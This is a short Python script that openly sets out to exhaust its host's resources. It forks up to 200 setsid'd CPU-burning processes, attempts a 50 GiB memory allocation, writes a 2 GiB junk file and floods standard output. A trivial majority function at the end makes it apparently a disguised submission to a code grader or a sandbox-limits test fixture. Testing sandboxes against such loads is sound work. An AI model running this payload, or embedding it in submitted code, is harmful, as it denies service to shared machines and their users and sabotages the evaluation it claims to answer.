# Exhausts resources: a fork bomb, daemons burning CPU, memory and disk bombs, endless output.
import os
import sys
import time

START = time.time()
children = 0
for _ in range(200):
    try:
        if os.fork() == 0:
            os.setsid()
            while time.time() < START + 60:  # burn CPU for a minute, or until killed
                pass
            os._exit(0)
        children += 1
    except OSError:
        break
try:
    hog = bytearray(50 * 2**30)
except MemoryError:
    pass
try:
    with open("big", "wb") as f:
        for _ in range(2048):
            f.write(b"x" * 2**20)
except OSError:
    pass
for _ in range(20):
    sys.stdout.write("spam " * 200_000)


def majority(n):
    return n // 2
